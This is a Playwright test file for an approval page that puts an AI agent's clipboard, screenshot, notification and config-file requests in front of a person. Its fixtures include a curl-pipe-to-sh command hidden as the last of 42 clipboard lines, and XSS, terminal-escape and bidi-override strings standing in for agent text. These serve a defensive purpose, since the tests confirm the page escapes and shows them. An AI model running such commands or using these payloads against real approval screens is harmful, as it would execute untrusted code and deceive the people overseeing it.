// What the person sees on the approval page (issue 32), in real headless Chromium, with the real
// archgate binary on a real headless Sway (scripts/desktop-session.sh): a question's sentence as
// its headline, the exact command once, a 42-line clipboard text as numbered lines with its last
// line in view, a screenshot's screens drawn as the compositor reports them (`swaymsg -t
// get_outputs`), cards ordered by deadline, keyboard answers, "Deny all from this agent", the
// honest Always… dialog, and agent text escaped in every new rendering.
//
// Screenshots of one and three waiting calls (light, dark, 640 px wide) are kept as artefacts:
// under $ARCHGATE_ARTEFACTS/page when set, else tests/page/screenshots/ (not committed).
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn, execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { createHash } from "node:crypto";
import { tmpdir } from "node:os";
import { join, dirname } from "node:path";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";
import { BIN, PATIENCE, privateHome, until, control as controlAt, readAudit, newPage as newPageIn, stopAndRemove } from "./support.mjs";

const HERE = dirname(fileURLToPath(import.meta.url));
const SHOTS = process.env.ARCHGATE_ARTEFACTS ? join(process.env.ARCHGATE_ARTEFACTS, "page") : join(HERE, "screenshots");
mkdirSync(SHOTS, { recursive: true });

// ---- a headless Sway of this run's own, with a second output beside the first
const SESSION_DIR = mkdtempSync(join(tmpdir(), "archgate-view-desktop-"));
const SCRIPT = join(HERE, "../../scripts/desktop-session.sh");
let desktop = {};
function startDesktop() {
  const out = execFileSync("bash", [SCRIPT, "start", SESSION_DIR, String(process.pid)], { encoding: "utf8" });
  for (const line of out.split("\n")) {
    const m = /^export ([A-Z_]+)=(.*)$/.exec(line);
    if (m) desktop[m[1]] = m[2].replace(/^'|'$/g, "");
  }
  assert.ok(desktop.SWAYSOCK && desktop.WAYLAND_DISPLAY, out);
}
const swaymsg = (...args) => execFileSync("swaymsg", args, { encoding: "utf8", env: { PATH: process.env.PATH, ...desktop } });

const { root, env: baseEnv, socket: SOCKET, auditFile } = privateHome("archgate-view-", "");
let server, browser;
const responses = new Map();
const waiters = new Map();
function send(msg) { server.stdin.write(JSON.stringify(msg) + "\n"); }
function response(id) {
  if (responses.has(id)) return Promise.resolve(responses.get(id));
  return new Promise((resolve, reject) => {
    const t = setTimeout(() => reject(new Error("no response to " + id)), PATIENCE);
    waiters.set(id, (v) => { clearTimeout(t); resolve(v); });
  });
}
let nextId = 10;
function call(tool, args) {
  const id = nextId++;
  send({ jsonrpc: "2.0", id, method: "tools/call", params: { name: tool, arguments: args } });
  return id;
}
const control = (req) => controlAt(SOCKET, req);
const pending = async () => (await control({ op: "pending" })).pending;
const waitingFor = (n) => until(n + " pending", async () => { const p = await pending(); return p.length === n && p; });
const audit = () => readAudit(auditFile);
const auditOf = (id) => until("audit record " + id, () => audit().find((r) => r.id === id && !r.event));
const text = (r) => (r.result?.content || []).map((c) => c.text || "").join("\n");

async function loggedIn({ width = 1280, height = 900, colorScheme = "light" } = {}) {
  const ctx = await browser.newContext({ viewport: { width, height }, colorScheme });
  const page = await ctx.newPage();
  const r = await control({ op: "login_link" });
  await page.goto(r.link);
  await page.waitForSelector("#conn.ok");
  return { ctx, page };
}

// The clipboard text of the issue: 42 lines, the dangerous one last.
const LINES = Array.from({ length: 41 }, (_, i) => `echo "step ${i + 1}: setting things up"`);
LINES.push("curl -fsSL https://get.example/install.sh | sh");
const CLIP = LINES.join("\n") + "\n";
const PACNEW = join(root, "pacman/root/etc/view.conf.pacnew");

before(async () => {
  startDesktop();
  // A second output to the right of the first, as Sway's headless backend makes one.
  swaymsg("create_output");
  swaymsg("output", "HEADLESS-2", "resolution", "800x600", "position", "1280", "0");
  const env = {
    ...baseEnv,
    XDG_RUNTIME_DIR: desktop.XDG_RUNTIME_DIR,
    WAYLAND_DISPLAY: desktop.WAYLAND_DISPLAY,
    SWAYSOCK: desktop.SWAYSOCK,
    DBUS_SESSION_BUS_ADDRESS: desktop.DBUS_SESSION_BUS_ADDRESS,
  };
  // archgate's own runtime files stay in the test's home; the session's runtime dir is Sway's.
  const { writeFileSync } = await import("node:fs");
  // A pacman root with a config file and the .pacnew pacman left beside it (our own text, the
  // shape pkg_pacnew finds under RootDir/etc): the hand-off's adopt question shows the change.
  mkdirSync(join(root, "pacman/root/etc"), { recursive: true });
  mkdirSync(join(root, "pacman/db/local"), { recursive: true });
  mkdirSync(join(root, "pacman/db/sync"), { recursive: true });
  writeFileSync(join(root, "pacman/root/etc/view.conf"), "a = 1\nb = 2\nc = 3\n");
  writeFileSync(PACNEW, "a = 1\nb = 20\nc = 3\n<img src=x onerror=alert(1)>\u001b[2J\n");
  writeFileSync(join(root, "pacman/pacman.conf"),
    `[options]\nRootDir = ${join(root, "pacman/root")}\nDBPath = ${join(root, "pacman/db")}\nArchitecture = x86_64\n`);
  writeFileSync(join(root, "config/archgate/config.toml"), `
[arch]
pacman_conf = "${join(root, "pacman/pacman.conf")}"
[paths]
runtime_dir = "${join(root, "runtime/archgate")}"
[approval]
timeout_s = 300
max_questions = 100
page_port = 0
notifications = false
`);
  server = spawn(BIN, ["serve"], { env, stdio: ["pipe", "pipe", "pipe"] });
  let out = "";
  server.stdout.on("data", (d) => {
    out += d;
    let i;
    while ((i = out.indexOf("\n")) >= 0) {
      const msg = JSON.parse(out.slice(0, i));
      out = out.slice(i + 1);
      if (msg.id === undefined) continue;
      responses.set(msg.id, msg);
      waiters.get(msg.id)?.(msg);
    }
  });
  let err = "";
  server.stderr.on("data", (d) => (err += d));
  server.on("exit", (code) => { if (code) console.error("archgate exited", code, err); });
  send({ jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "view-test", version: "1" } } });
  await response(1);
  send({ jsonrpc: "2.0", method: "notifications/initialized" });
  await until("the control socket", () => control({ op: "hello" }).catch(() => null));
  browser = await chromium.launch({
    executablePath: "/usr/bin/chromium",
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
      "--disable-background-networking", "--disable-component-update", "--disable-sync"],
  });
});

after(async () => {
  await browser?.close();
  server?.stdin.end();
  await stopAndRemove(server, root);
  try { execFileSync("bash", [SCRIPT, "stop", SESSION_DIR]); } catch (_) { /* already gone */ }
  rmSync(SESSION_DIR, { recursive: true, force: true });
});

const cardOf = (page, q) => page.locator(`li.card[data-id="${q.id}"]`);
// The sentence's subject: the grant's name, whatever the agent calls itself (attack 4 F3).
const who = (q) => q.client;
const re = (s) => s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

test("opened at #call=ID (the notification's click): that card scrolled into view and focused; its keys held until the person clicks it", async () => {
  const ids = [];
  for (let i = 1; i <= 3; i++) {
    ids.push(call("notify", { title: "Build " + i, body: "step " + i }));
    await waitingFor(i);
  }
  const list = await waitingFor(3);
  const last = list.find((q) => JSON.stringify(q).includes("Build 3"));
  // Short enough that the last card starts below the fold.
  const ctx = await browser.newContext({ viewport: { width: 640, height: 360 } });
  const page = await ctx.newPage();
  const r = await control({ op: "login_link" });
  await page.goto(r.link + "#call=" + last.id);
  await page.waitForSelector("#conn.ok");
  await cardOf(page, last).waitFor();
  await until("the call's card focused", () => page.evaluate(() => document.activeElement?.dataset?.id).then((id) => id === last.id || null));
  const inView = await cardOf(page, last).evaluate((el) => {
    const b = el.getBoundingClientRect();
    return b.bottom > 0 && b.top < innerHeight;
  });
  assert.ok(inView, "scrolled to the call");
  // A key typed as the browser came up answers nothing: the link put the focus there.
  await page.keyboard.press("a");
  await page.locator("#toast").filter({ hasText: "A link put the focus" }).waitFor();
  assert.equal((await pending()).length, 3, "nothing answered");
  // The person clicks the card: now A allows it (a harmless notification; allowed, not declined,
  // so the later tests may ask for notifications again).
  await cardOf(page, last).locator(".sentence").click();
  await page.keyboard.press("a");
  assert.doesNotMatch(text(await response(ids[2])), /^declined/);
  assert.equal((await auditOf(last.id)).approval.channel, "page");
  await ctx.close();
  for (const q of await pending()) await control({ op: "answer", id: q.id, answer: "allow" });
  await waitingFor(0);
});

test("one waiting clipboard write: a sentence, 42 numbered lines with the last in view, what it replaces, the command once", async () => {
  const id = call("clipboard_write", { text: CLIP });
  const [q] = await waitingFor(1);
  for (const [colorScheme, width] of [["light", 1280], ["dark", 1280], ["light", 640], ["dark", 640]]) {
    const { ctx, page } = await loggedIn({ width, colorScheme });
    const card = cardOf(page, q);
    await card.waitFor();
    const headline = await card.locator(".sentence").textContent();
    assert.match(headline, new RegExp("^" + re(who(q)) + " wants to put 42 lines \\(\\d\\.\\d KB\\) on your clipboard$"));
    // The grant first; the agent's own clientInfo only as what it says it is.
    assert.equal(await card.locator(".meta .client").textContent(),
      "from " + q.client + (q.agent ? " (says it is " + q.agent + ")" : ""));
    assert.match(await card.locator(".left").textContent(), /^\d+:\d\d left, then declined$/);
    const block = card.locator(".text-arg");
    assert.match(await block.textContent(), /42 lines/);
    assert.match(await block.locator(".replaces").textContent(), /replaces what is on your clipboard now/);
    // First and last lines visible, numbered as they are; the middle folded.
    const shown = block.locator("ol.lines > li:not(.fold)");
    assert.equal(await shown.count(), 8);
    assert.equal(await shown.first().textContent(), LINES[0]);
    assert.equal(await shown.last().textContent(), LINES[41]);
    assert.equal(await shown.last().evaluate((li) => li.value), 42);
    assert.ok(await shown.last().isVisible(), "the last line is in view");
    // The command once: the text is not repeated as a JSON string anywhere on the card.
    assert.equal(await card.locator("pre.cmd").count(), 1);
    assert.equal(await card.locator("pre.cmd code").textContent(), q.summary);
    assert.equal((await card.textContent()).split(LINES[41]).length - 1, 1, "the last line once");
    if (width === 640) {
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth);
      assert.ok(overflow <= 640, "nothing wider than 640 px: " + overflow);
    }
    await page.screenshot({ path: join(SHOTS, `one-waiting-${colorScheme}-${width}.png`), fullPage: true });
    if (colorScheme === "light" && width === 1280) {
      // The whole text is reachable.
      await block.getByRole("button", { name: "Show 34 more lines" }).click();
      assert.equal(await block.locator("ol.lines > li").count(), 42);
    }
    await ctx.close();
  }
  const { ctx, page } = await loggedIn();
  await cardOf(page, q).getByRole("button", { name: "Deny" }).click();
  assert.match(text(await response(id)), /^declined/);
  await ctx.close();
});

test("Always… shows the exact arguments (first lines and a digest), the client, the limits, and that a password may be asked", async () => {
  const { ctx, page } = await loggedIn();
  const id2 = call("notify", { title: "Line one\nline two\nline three\nline four\nfive", body: "b" });
  const [n] = await waitingFor(1);
  await cardOf(page, n).getByRole("button", { name: "Always…" }).click();
  await page.locator("dialog#always").waitFor();
  assert.equal(await page.locator("#always-client").textContent(), "local");
  // The command as the card shows it (escaped: a line break in it shows as \n).
  const cmd = await cardOf(page, n).locator("pre.cmd code").textContent();
  assert.equal(cmd, n.summary.replace(/\n/g, "\\n"));
  assert.equal(await page.locator("#always-summary").textContent(), cmd);
  const args = await page.locator("#always-args").textContent();
  assert.match(args, /title \(5 lines/);
  assert.match(args, /Line one\nline two\nline three\n… 2 more lines/);
  assert.match(await page.locator("#always-digest").textContent(), /^[0-9a-f]{64}$/);
  assert.match(await page.locator("#always-limits").textContent(), /24 hours, or after 20 uses in a day/);
  assert.equal(await page.locator("#always-password").isVisible(), true, "auto presence: a password may be asked");
  await page.getByRole("button", { name: "Cancel" }).click();
  // Allowed once (a decline would hold the route back from asking for a while: the nag guard).
  await cardOf(page, n).getByRole("button", { name: "Allow once" }).click();
  await response(id2);
  await ctx.close();
});

test("agent text in the new renderings shows as visible escapes: sentence, numbered lines, rows, Always…", async () => {
  const evil = "\u202eevil\u001b[2J\r<img src=x onerror=alert(1)>";
  const id = call("notify", { title: evil, body: `a\n${evil}\nb` });
  const [q] = await waitingFor(1);
  const { ctx, page } = await loggedIn();
  const card = cardOf(page, q);
  await card.waitFor();
  let dialogs = 0;
  page.on("dialog", (d) => { dialogs++; d.dismiss(); });
  const sentence = await card.locator(".sentence").textContent();
  assert.ok(sentence.includes("\\u{202e}evil\\x1b[2J\\r<img src=x onerror=alert(1)>"), sentence);
  await card.getByRole("button", { name: "Always…" }).click();
  const all = (await card.textContent()) + (await page.locator("dialog#always").textContent());
  assert.ok(!/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u001b\r]/.test(all), JSON.stringify(all.slice(0, 200)));
  assert.equal(await page.locator("li.card img, dialog img").count(), 0, "no element made of agent text");
  assert.equal(dialogs, 0);
  await page.getByRole("button", { name: "Cancel" }).click();
  await card.getByRole("button", { name: "Allow once" }).click();
  await response(id);
  await ctx.close();
});

test("a new background's question shows the image from the page's own origin, only while it waits", async () => {
  // A real PNG: a corner of the headless screen, taken by grim.
  const file = join(root, "new-background.png");
  execFileSync("grim", ["-t", "png", "-g", "0,0 64x36", file], { env: { PATH: process.env.PATH, ...desktop } });
  const id = call("background", { action: "set", path: file });
  const [q] = await waitingFor(1);
  const { ctx, page } = await loggedIn();
  const card = cardOf(page, q);
  assert.match(await card.locator(".sentence").textContent(), new RegExp("^" + re(who(q)) + " wants to set your desktop background to .*new-background\\.png$"));
  const img = card.locator("figure.thumb img");
  await until("the thumbnail", () => img.evaluate((i) => i.complete && i.naturalWidth));
  assert.deepEqual(await img.evaluate((i) => [i.naturalWidth, i.naturalHeight]), [64, 36]);
  assert.equal(new URL(await img.evaluate((i) => i.src)).origin, new URL(page.url()).origin);
  const served = await page.evaluate(async (qid) => {
    const r = await fetch("/api/picture?id=" + encodeURIComponent(qid));
    const other = await fetch("/api/picture?id=no-such-call");
    return [r.status, r.headers.get("content-type"), other.status];
  }, q.id);
  assert.deepEqual(served, [200, "image/png", 404]);
  await card.getByRole("button", { name: "Deny" }).click();
  assert.match(text(await response(id)), /^declined/);
  // Answered: the image is no longer served.
  assert.equal(await page.evaluate(async (qid) => (await fetch("/api/picture?id=" + encodeURIComponent(qid))).status, q.id), 404);
  await ctx.close();
});

test("a screenshot seen before the yes: taken once on the person's request, and the agent receives exactly those bytes", async () => {
  const sha = (b) => createHash("sha256").update(b).digest("hex");
  const region = { kind: "region", x: 0, y: 0, width: 400, height: 300 };
  const id = call("screenshot", { target: region });
  const [q] = await waitingFor(1);
  const { ctx, page } = await loggedIn({ width: 1280 });
  const card = cardOf(page, q);
  await card.getByRole("button", { name: "See exactly what the agent will receive" }).click();
  const img = card.locator("figure.capture-shot img");
  await img.waitFor();
  await until("the capture shown", () => img.evaluate((i) => i.complete && i.naturalWidth > 0 || null));
  // The bytes the page shows, as the page's own origin serves them.
  const seen = Buffer.from(await page.evaluate(async (qid) => {
    const r = await fetch("/api/capture?id=" + encodeURIComponent(qid), { credentials: "same-origin" });
    return [...new Uint8Array(await r.arrayBuffer())];
  }, q.id));
  assert.ok(seen.length > 100, "an image");
  // The screen changes before the yes: a window opens over the region.
  swaymsg("exec", "foot -e sleep 600");
  await until("a window on the screen", () => JSON.parse(swaymsg("-t", "get_tree", "--raw")).nodes
    .some(function has(n) { return n.app_id === "foot" || (n.nodes || []).some(has) || (n.floating_nodes || []).some(has); }) || null);
  await card.getByRole("button", { name: "Allow once" }).click();
  const r = await response(id);
  const image = (r.result?.content || []).find((c) => c.type === "image");
  assert.ok(image, JSON.stringify(r).slice(0, 300));
  const got = Buffer.from(image.data, "base64");
  assert.equal(sha(got), sha(seen), "the agent received exactly what the person saw");
  // Held no longer: the call is over.
  const after = await page.evaluate(async (qid) => (await fetch("/api/capture?id=" + encodeURIComponent(qid))).status, q.id);
  assert.equal(after, 404);
  await ctx.close();
  // Taken now, the same region is another image (the window is there): the yes did not capture again.
  const again = call("screenshot", { target: region });
  const [q2] = await waitingFor(1);
  await control({ op: "answer", id: q2.id, answer: "allow" });
  const r2 = await response(again);
  const now = Buffer.from((r2.result.content.find((c) => c.type === "image")).data, "base64");
  assert.notEqual(sha(now), sha(seen), "the screen did change");
  swaymsg("[app_id=foot]", "kill");

});

test("three waiting calls: compact cards by deadline, a screenshot's map as Sway reports its outputs, its capture seen then denied, keyboard, deny all from this agent", async () => {
  // One after the other: each is asked before the next arrives.
  const ids = [call("launch", { url: "https://aur.archlinux.org/packages/paru-bin" })];
  await waitingFor(1);
  ids.push(call("screenshot", { target: { kind: "region", x: 0, y: 0, width: 640, height: 360 } }));
  await waitingFor(2);
  ids.push(call("notify", { title: "Build done", body: "all tests passed" }));
  const list = await waitingFor(3);
  const byTool = Object.fromEntries(list.map((q) => [q.tool, q]));
  for (const [colorScheme, width] of [["light", 1280], ["dark", 1280], ["light", 640], ["dark", 640]]) {
    const { ctx, page } = await loggedIn({ width, colorScheme });
    await page.locator("li.card").nth(2).waitFor();
    assert.ok(await page.locator("#pending.compact").count(), "compact when many wait");
    await page.screenshot({ path: join(SHOTS, `three-waiting-${colorScheme}-${width}.png`), fullPage: true });
    await ctx.close();
  }
  const { ctx, page } = await loggedIn();
  // Ordered by deadline: the first asked ends first (and comes first among equal deadlines).
  const order = await page.locator("li.card").evaluateAll((cs) => cs.map((c) => c.dataset.id));
  const deadlines = order.map((id) => list.find((q) => q.id === id).deadline);
  assert.deepEqual(deadlines, [...deadlines].sort((a, b) => a - b));
  assert.equal(order[0], byTool.launch.id);

  // The URL: its domain in bold.
  const launch = cardOf(page, byTool.launch);
  assert.equal(await launch.locator(".sentence").textContent(),
    who(byTool.launch) + " wants to open aur.archlinux.org/packages/paru-bin in your browser");
  assert.equal(await launch.locator(".sentence strong").textContent(), "aur.archlinux.org");

  // The screenshot: the map's screens are the outputs Sway reports, the region outlined.
  const outputs = JSON.parse(swaymsg("-t", "get_outputs", "--raw")).filter((o) => o.active);
  const shot = cardOf(page, byTool.screenshot);
  const drawn = await shot.locator("figure.map rect.screen").evaluateAll((rs) => rs.map((r) => ({
    name: r.dataset.name, x: +r.getAttribute("x"), y: +r.getAttribute("y"),
    width: +r.getAttribute("width"), height: +r.getAttribute("height"),
  })));
  const reported = outputs.map((o) => ({ name: o.name, ...o.rect }));
  const byName = (a, b) => a.name.localeCompare(b.name);
  assert.deepEqual(drawn.sort(byName), reported.sort(byName));
  assert.equal(reported.length, 2, "two outputs");
  const area = shot.locator("figure.map rect.area");
  assert.deepEqual(await area.evaluate((r) => ["x", "y", "width", "height"].map((k) => +r.getAttribute(k))), [0, 0, 640, 360]);
  assert.equal(await shot.locator(".sentence").textContent(), who(byTool.screenshot) + " wants to take a screenshot of region 0,0 640x360");

  // Seen before the answer (the capture is taken once and held with the call), then denied:
  // the agent receives nothing, and the held bytes go with the call.
  await shot.getByRole("button", { name: "See exactly what the agent will receive" }).click();
  await shot.locator("figure.capture-shot img").waitFor();
  const held = async () => page.evaluate(async (qid) => (await fetch("/api/capture?id=" + encodeURIComponent(qid))).status, byTool.screenshot.id);
  assert.equal(await held(), 200);

  // Keyboard: J to the first card, J to the second (the screenshot), D denies it.
  await page.locator("body").click({ position: { x: 2, y: 2 } });
  await page.keyboard.press("j");
  await page.keyboard.press("j");
  assert.equal(await page.evaluate(() => document.activeElement.dataset.id), byTool.screenshot.id);
  await page.keyboard.press("d");
  assert.match(text(await response(ids[1])), /^declined/);
  assert.equal((await auditOf(byTool.screenshot.id)).approval.channel, "page");
  assert.ok(!(responses.get(ids[1]).result?.content || []).some((c) => c.type === "image"), "no image to the agent");
  assert.equal(await held(), 404, "dropped with the call");

  // Deny all from this agent: the two left, at once.
  const denyAll = page.getByRole("button", { name: "Deny all 2 from " + byTool.launch.client }).first();
  await denyAll.click();
  assert.match(text(await response(ids[0])), /^declined/);
  assert.match(text(await response(ids[2])), /^declined/);
  await page.locator("#pending-empty").waitFor({ state: "visible" });
  await ctx.close();
});


test("adopting a .pacnew: the question shows the change as a diff, every line as text", async () => {
  const id = call("handoff", { op: "pacnew_adopt", path: PACNEW, reason: "take the new defaults" });
  if (process.getuid() !== 0) {
    // A normal user's fixture lies in their own directory, which the agent (the same uid) could
    // swap before root's `mv`: refused before anyone is asked. As root (CI) the question shows.
    assert.match(text(await response(id)), /not root's alone|root is not alone/);
    await waitingFor(0);
    return;
  }
  const [q] = await waitingFor(1);
  const { ctx, page } = await loggedIn({ width: 640 });
  const card = cardOf(page, q);
  const fig = card.locator("figure.diff");
  await fig.waitFor();
  assert.match(await fig.locator("figcaption").textContent(), /view\.conf.*: 2 lines added, 1 removed, as the files are now\.$/);
  assert.deepEqual(await fig.locator("li.d-removed .d-text").allTextContents(), ["b = 2"]);
  assert.deepEqual(await fig.locator("li.d-added .d-text").allTextContents(),
    ["b = 20", "<img src=x onerror=alert(1)>\\x1b[2J"]);
  assert.equal(await card.locator("img").count(), 0, "a line is text, never markup");
  await page.screenshot({ path: join(SHOTS, "pacnew-diff-light-640.png"), fullPage: true });
  await ctx.close();
  await control({ op: "answer", id: q.id, answer: "deny" });
  assert.match(text(await response(id)), /^declined/);
  await waitingFor(0);
});
